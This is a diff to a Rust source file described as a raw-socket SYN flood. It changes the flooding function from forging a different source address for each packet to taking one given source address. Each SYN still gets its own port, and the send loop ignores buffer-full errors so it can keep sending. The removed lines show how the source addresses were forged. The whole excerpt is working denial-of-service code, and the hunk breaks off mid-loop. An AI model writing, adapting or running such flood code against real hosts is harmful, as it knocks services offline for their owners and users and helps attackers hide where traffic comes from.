@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
-//! A SYN flood with forged sources, from a raw socket.
+//! A SYN flood from a raw socket.
 
 use std::io;
 use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
@@ -10,13 +10,12 @@ const IP: usize = 20;
 const TCP: usize = 20;
 const SYN: u8 = 0x02;
 
-/// Sends `count` SYNs to `target`, each from an address and port of its own; none is ever answered.
-pub fn syns(target: SocketAddrV4, count: u32) -> io::Result<()> {
+/// Sends `count` SYNs from an address to `target`, each from a port of its own; no socket is behind them.
+pub fn syns(source: Ipv4Addr, target: SocketAddrV4, count: u32) -> io::Result<()> {
     let raw = Protocol::from(libc::IPPROTO_RAW);
     let socket = Socket::new(Domain::IPV4, Type::RAW, Some(raw))?;
     let to = SocketAddr::from(target).into();
     for number in 0..count {
-        let source = Ipv4Addr::from(0x0a63_0000 + number % 60_000);
         let port = 1024 + (number.wrapping_mul(7919) % 60_000) as u16;
         match socket.send_to(&syn(SocketAddrV4::new(source, port), target), &to) {
             Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => {}
